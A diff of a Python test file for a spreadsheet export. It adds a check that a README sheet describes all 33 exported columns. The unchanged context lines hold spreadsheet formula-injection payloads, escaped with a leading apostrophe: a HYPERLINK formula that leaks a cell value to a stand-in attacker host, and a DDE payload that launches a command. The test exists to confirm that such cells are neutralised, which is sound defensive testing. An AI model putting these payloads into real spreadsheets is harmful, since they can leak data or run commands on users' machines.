@@ -71,3 +71,16 @@ def test_no_cell_is_a_formula(workbook) -> None:
     assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")' in values
     assert "'+cmd|' /C calc'!A0" in values
     assert "'-5 (a text cell that starts with a minus)" in values
+
+
+def test_readme_describes_every_column(workbook) -> None:
+    from app.export.columns import COLUMN_DESCRIPTIONS
+
+    rows = [list(r) for r in workbook["README"].iter_rows(values_only=True)]
+    start = next(i for i, r in enumerate(rows) if r[:2] == ["Column", "type"])
+    described = {r[0]: r[3] for r in rows[start + 1 :] if r and r[0]}
+    assert list(described) == EXPORT_COLUMNS  # 33 columns, in the data sheet's order
+    assert len(described) == 33
+    for col, meaning in described.items():
+        assert meaning == COLUMN_DESCRIPTIONS[col], col
+    assert described["kind"].startswith("what the number measures over time")
